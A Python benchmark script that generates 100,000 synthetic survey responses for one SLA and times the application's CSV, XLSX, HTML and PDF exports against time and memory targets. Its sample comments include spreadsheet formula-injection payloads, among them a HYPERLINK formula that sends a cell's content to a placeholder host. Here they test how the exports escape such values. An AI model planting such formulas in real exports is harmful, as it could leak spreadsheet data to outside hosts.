"""P7 of PERFORMANCE.md: exports of one SLA with 100,000 survey responses.

Builds a fresh database (a SQLite file, or a new PostgreSQL database with ``--url``) with a
fixed seed: one customer SLA with two objectives and 12 monthly measurements, one open
survey of three questions (CSAT, happiness, a comment), and N responses spread over the
last 12 months, each with its three answers and the three feedback rows the survey
pipeline makes of them (comments drawn from a pool that includes SECURITY.md's formula
payloads and unicode samples, with a precomputed compound score). Rows go in with SQL Core
``executemany``; the rollups are rebuilt once.

Each format is then timed in its own subprocess (a fresh interpreter, so peak RSS is that
export's alone) through the real route with a signed-in admin, reading the streamed body
chunk by chunk into a file: CSV of responses, CSV of feedback, XLSX, HTML, PDF. A bare
baseline runs in the same way: ``csv.writer`` over a raw DB-API cursor of the same
feedback rows. Targets: CSV <= 10 s, XLSX <= 30 s, HTML <= 2 s, PDF <= 15 s, peak RSS
<= 400 MB.

    .venv/bin/python bench/exports.py --dir /tmp/p7                  # 100,000 responses
    .venv/bin/python bench/exports.py --dir /tmp/p7s --smoke         # 2,000 responses
    .venv/bin/python bench/exports.py --dir /tmp/p7pg --url postgresql://postgres@127.0.0.1:5432/p7
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import json
import os
import random
import resource
import subprocess
import sys
import time
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any, cast

from sqlalchemy import Table

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "bench"))

SEED = 20261125
RESPONSES = 100_000
SMOKE_RESPONSES = 2_000
CONTACTS = 500
BATCH = 20_000
MONTHS = 12
ADMIN_EMAIL = "admin@bench.example"
ADMIN_PASSWORD = "correct horse battery staple"
#: Seconds allowed per format, and the peak RSS (MB) allowed for every one.
TARGETS = {"csv-responses": 10.0, "csv-feedback": 10.0, "xlsx": 30.0, "html": 2.0,
           "pdf": 15.0}  # fmt: skip
RSS_TARGET_MB = 400.0
TEXTS = (
    ("The engineer was quick and friendly.", 0.6),
    ("Outage updates came far too late.", -0.45),
    ("Invoices are confusing again.", -0.3),
    ("Great support, solved on the first call 🎉", 0.8),
    ("Response time is fine.", 0.2),
    ("Nobody called back after two days.", -0.3),
    ("השירות מצוין, תודה", 0.0),
    ("cafe\u0301 service was ok", 0.3),
    ('=HYPERLINK("http://x/?"&A1)', 0.0),
    ("+1+2", 0.0),
    ("@SUM(1)", 0.0),
)


@dataclass
class Dataset:
    url: str
    agreement_id: int
    responses: int
    feedback: int
    seconds: float


def _structure(db: Any, today: date) -> tuple[Any, Any, list[int]]:
    """Customer, SLA with objectives and measurements, admin, contacts, open survey."""
    from engage.auth.passwords import hash_password
    from engage.models import (
        Agreement,
        AgreementStatus,
        AgreementVersion,
        Aspect,
        Contact,
        Customer,
        Direction,
        Level,
        Measurement,
        MeasurementSource,
        Objective,
        Question,
        QuestionKind,
        Role,
        Survey,
        SurveyStatus,
        SurveyVersion,
        User,
    )  # fmt: skip

    s = db.session
    aspects = list(s.scalars(db.select(Aspect).order_by(Aspect.position)))
    first = date(today.year, today.month, 1)
    periods = []
    for i in range(MONTHS - 1, -1, -1):
        y, m = divmod(first.year * 12 + first.month - 1 - i, 12)
        periods.append(date(y, m + 1, 1))
    customer = Customer(name="Bench Customer")
    sla = Agreement(name="Bench SLA", level=Level.CUSTOMER, customer=customer,
                    status=AgreementStatus.ACTIVE, version=1,
                    effective_from=periods[0])  # fmt: skip
    for pos, aspect in enumerate(aspects[:2]):
        sla.objectives.append(Objective(aspect=aspect, metric=f"{aspect.name} score",
                                        target=95.0, unit="%", position=pos,
                                        direction=Direction.AT_LEAST))  # fmt: skip
    survey = Survey(title="Quarterly pulse", intro="", thank_you="",
                    status=SurveyStatus.OPEN, opened_at=datetime.now(UTC))  # fmt: skip
    version = SurveyVersion(number=1)
    for pos, (kind, prompt) in enumerate((
        (QuestionKind.CSAT, "How satisfied are you with the service?"),
        (QuestionKind.HAPPINESS, "How likely are you to recommend us?"),
        (QuestionKind.TEXT, "What should we change?"),
    )):  # fmt: skip
        version.questions.append(Question(position=pos, kind=kind, prompt=prompt))
    survey.versions.append(version)
    contacts = [Contact(customer=customer, name=f"Contact {i}",
                        email=f"c{i}@customer.example") for i in range(CONTACTS)]  # fmt: skip
    s.add_all([sla, survey, *contacts])
    s.add(User(email=ADMIN_EMAIL, name="Bench Admin", role=Role.ADMIN,
               password_hash=hash_password(ADMIN_PASSWORD)))  # fmt: skip
    s.flush()
    s.add(AgreementVersion(agreement=sla, number=1, effective_from=periods[0],
                           objectives=[{"id": o.id, "aspect": o.aspect.name,
                                        "metric": o.metric, "target": o.target,
                                        "unit": o.unit, "direction": ">=",
                                        "overrides_id": None}
                                       for o in sla.objectives]))  # fmt: skip
    rng = random.Random(SEED)
    now = datetime.now(UTC)
    s.execute(db.insert(Measurement), [
        {"agreement_id": sla.id, "objective_id": o.id, "period": p,
         "value": round(min(100.0, rng.gauss(97.0, 2.0)), 2),
         "source": MeasurementSource.DEMO, "note": "", "recorded_at": now}
        for o in sla.objectives for p in periods
    ])  # fmt: skip
    s.flush()
    return sla, version, [c.id for c in contacts]


def _rows(db: Any, sla: Any, version: Any, contacts: list[int], n: int) -> int:
    """Invitations, responses, answers and feedback in Core batches; feedback count."""
    from engage.models import Answer, Feedback, Invitation, Response

    rng = random.Random(SEED)
    conn = db.session.connection()
    now = datetime.now(UTC).replace(microsecond=0)
    span = (MONTHS - 1) * 30.4 * 86400 + (now.day - 1) * 86400
    csat, happy, comment = (q.id for q in version.questions)
    aspect = sla.objectives[0].aspect_id
    feedback = 0
    for low in range(0, n, BATCH):
        invitations, responses, answers, items = [], [], [], []
        for i in range(low + 1, min(n, low + BATCH) + 1):
            at = now - timedelta(seconds=span * rng.random())
            token = hashlib.sha256(f"bench-{i}".encode()).hexdigest()
            invitations.append({
                "id": i, "survey_id": version.survey_id, "agreement_id": sla.id,
                "contact_id": contacts[i % len(contacts)], "token_hash": token,
                "token_salt": token, "expires_at": now + timedelta(days=30),
                "created_at": at, "reminder_count": 0, "responded_at": at,
            })  # fmt: skip
            responses.append({"id": i, "invitation_id": i, "version_id": version.id,
                              "submitted_at": at})  # fmt: skip
            score = rng.choices((1, 2, 3, 4, 5), (3, 5, 15, 45, 32))[0]
            nps = min(10, max(0, round(rng.gauss(7.5, 2.0))))
            text, compound = rng.choice(TEXTS)
            values = ((csat, score, None, "csat"), (happy, nps, None, "happiness"),
                      (comment, None, text, "text"))  # fmt: skip
            for j, (qid, number, words, kind) in enumerate(values):
                aid = 3 * (i - 1) + j + 1
                answers.append({"id": aid, "response_id": i, "question_id": qid,
                                "number": number, "text": words, "choices": None})  # fmt: skip
                items.append({
                    "id": aid, "source": "survey", "kind": kind, "received_at": at,
                    "customer_id": sla.customer_id, "agreement_id": sla.id,
                    "answer_id": aid, "aspect_id": aspect if j == 0 else None,
                    "objective_id": None, "score": number, "text": words,
                    "compound": compound if words else None,
                    "scorer_version": "bench" if words else None,
                })  # fmt: skip
        for model, batch in ((Invitation, invitations), (Response, responses),
                             (Answer, answers), (Feedback, items)):  # fmt: skip
            conn.execute(cast(Table, model.__table__).insert(), batch)
        feedback += len(items)
    return feedback


def _config(instance: str, url: str | None) -> dict[str, Any]:
    config: dict[str, Any] = {"INSTANCE_PATH": instance, "WTF_CSRF_ENABLED": False}
    if url:
        config["SQLALCHEMY_DATABASE_URI"] = url
    return config


def generate(instance: str, responses: int, url: str | None = None) -> Dataset:
    """Build the data set; ``url`` None means a SQLite file in ``instance``."""
    from flask_migrate import upgrade

    from app import create_app
    from engage import rollups
    from engage.extensions import db

    started = time.perf_counter()
    if url:
        from dashboard_data import _pg_admin

        _pg_admin(url, 'CREATE DATABASE "{name}"')
    app = create_app(_config(instance, url))
    with app.app_context():
        upgrade()
        sla, version, contacts = _structure(db, datetime.now(UTC).date())
        feedback = _rows(db, sla, version, contacts, responses)
        db.session.commit()
        rollups.rebuild(db.session)
        db.session.commit()
        db.session.execute(db.text("ANALYZE"))
        db.session.commit()
        uri = str(app.config["SQLALCHEMY_DATABASE_URI"])
        sla_id = sla.id
        db.engine.dispose()
    return Dataset(uri, sla_id, responses, feedback, time.perf_counter() - started)


# -- one measurement, in a child process ---------------------------------------


def _paths(fmt: str, sla: int) -> str:
    if fmt == "csv-responses":
        return f"/staff/reports/agreement/{sla}.csv?rows=responses"
    if fmt == "csv-feedback":
        return f"/staff/reports/agreement/{sla}.csv?rows=feedback"
    return f"/staff/reports/agreement/{sla}.{fmt}"


def _baseline(url: str, sla: int, out: Path) -> int:
    """csv.writer over a raw DB-API cursor of the feedback export's rows."""
    sql = (
        "SELECT f.id, f.received_at, f.source, f.kind, f.customer_id, c.name,"
        " f.agreement_id, a.name, f.score, f.compound, f.text, f.scorer_version"
        " FROM feedback f JOIN customers c ON c.id = f.customer_id"
        " JOIN agreements a ON a.id = f.agreement_id WHERE f.agreement_id = {p}"
        " ORDER BY f.id"
    )
    if url.startswith("sqlite"):
        import sqlite3

        conn: Any = sqlite3.connect(url.removeprefix("sqlite:///"))
        cursor = conn.execute(sql.format(p="?"), (sla,))
    else:
        import psycopg
        from sqlalchemy.engine import make_url

        u = make_url(url).set(drivername="postgresql")
        conn = psycopg.connect(u.render_as_string(hide_password=False))
        cursor = conn.cursor(name="baseline")  # server-side: flat memory
        cursor.execute(sql.format(p="%s"), (sla,))
    n = 0
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        while rows := cursor.fetchmany(BATCH):
            writer.writerows(rows)
            n += len(rows)
    conn.close()
    return out.stat().st_size


def _vm_hwm_mb() -> float:
    """This process's peak RSS. Not ru_maxrss: Linux carries that across exec, so a
    child would report the generator's peak."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def measure(fmt: str, instance: str, url: str, sla: int, out: Path) -> dict[str, Any]:
    """Time one export (in this process) and report its seconds, bytes and peak RSS."""
    started = time.perf_counter()
    if fmt == "baseline":
        size, status = _baseline(url, sla, out), 200
    else:
        from app import create_app

        app = create_app(_config(instance, url))
        client = app.test_client()
        login = client.post(
            "/staff/login", data={"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}
        )
        assert login.status_code == 303, login.status_code
        started = time.perf_counter()
        response = client.get(_paths(fmt, sla), buffered=False)
        status, size = response.status_code, 0
        with out.open("wb") as handle:
            for chunk in response.response:
                data = chunk.encode() if isinstance(chunk, str) else chunk
                handle.write(data)
                size += len(data)
        response.close()
    seconds = time.perf_counter() - started
    own = _vm_hwm_mb()
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    return {"format": fmt, "status": status, "seconds": round(seconds, 2),
            "bytes": size, "rss_mb": round(own, 1),
            "helper_rss_mb": round(children, 1)}  # fmt: skip


def run_all(data: Dataset, instance: str, formats: list[str]) -> list[dict[str, Any]]:
    results = []
    for fmt in ["baseline", *formats]:
        out = Path(instance) / f"export-{fmt}.out"
        child = subprocess.run(
            [sys.executable, __file__, "--measure", fmt, "--dir", instance,
             "--db", data.url, "--sla", str(data.agreement_id), "--out", str(out)],
            capture_output=True, text=True, check=False, cwd=ROOT,
        )  # fmt: skip
        if child.returncode != 0:
            tail = child.stderr.strip().splitlines()[-1:] or ["?"]
            results.append({"format": fmt, "status": "error", "error": tail[0]})
            continue
        results.append(json.loads(child.stdout.strip().splitlines()[-1]))
    return results


def report(data: Dataset, results: list[dict[str, Any]]) -> bool:
    print(f"data: {data.responses} responses, {data.feedback} feedback rows on SLA "
          f"{data.agreement_id}, generated in {data.seconds:.1f} s ({data.url})")  # fmt: skip
    base = next((r for r in results if r["format"] == "baseline"), None)
    ok = True
    print(f"{'format':<14}{'status':>7}{'seconds':>9}{'target':>8}{'MB out':>8}"
          f"{'peak RSS':>10}{'helpers':>9}  verdict")  # fmt: skip
    for r in results:
        if r["status"] != 200:
            print(f"{r['format']:<14}{r['status']!s:>7}  {r.get('error', '')}")
            ok = ok and r["format"] in ("html", "pdf")  # E's formats may be absent
            continue
        target = TARGETS.get(r["format"])
        fine = r["rss_mb"] <= RSS_TARGET_MB and (
            target is None or r["seconds"] <= target
        )
        ok = ok and fine
        ratio = ""
        if base and base["status"] == 200 and r["format"] == "csv-feedback":
            ratio = f"  ({r['seconds'] / max(base['seconds'], 1e-3):.1f} x baseline)"
        print(f"{r['format']:<14}{r['status']:>7}{r['seconds']:>9.2f}"
              f"{'' if target is None else f'{target:.0f}':>8}"
              f"{r['bytes'] / 1e6:>8.1f}{r['rss_mb']:>10.1f}{r['helper_rss_mb']:>9.1f}"
              f"  {'ok' if fine else 'MISSED'}{ratio}")  # fmt: skip
    return ok


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--dir", required=True, help="instance directory (created)")
    parser.add_argument("--responses", type=int, default=RESPONSES)
    parser.add_argument("--smoke", action="store_true", help="2,000 responses")
    parser.add_argument("--url", help="a PostgreSQL URL of a database to create")
    parser.add_argument("--formats", default=",".join(TARGETS))
    parser.add_argument("--keep", action="store_true", help="keep a PostgreSQL db")
    # Internal: one measurement in a child process.
    parser.add_argument("--measure", help=argparse.SUPPRESS)
    parser.add_argument("--db", help=argparse.SUPPRESS)
    parser.add_argument("--sla", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--out", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.measure:
        print(json.dumps(measure(args.measure, args.dir, args.db, args.sla,
                                 Path(args.out))))  # fmt: skip
        return 0
    os.makedirs(args.dir, exist_ok=True)
    n = SMOKE_RESPONSES if args.smoke else args.responses
    data = generate(args.dir, n, args.url)
    try:
        results = run_all(data, args.dir, args.formats.split(","))
    finally:
        if args.url and not args.keep:
            from dashboard_data import drop_pg_database

            drop_pg_database(args.url)
    ok = report(data, results)
    return 0 if ok or args.smoke else 1


if __name__ == "__main__":
    sys.exit(main())
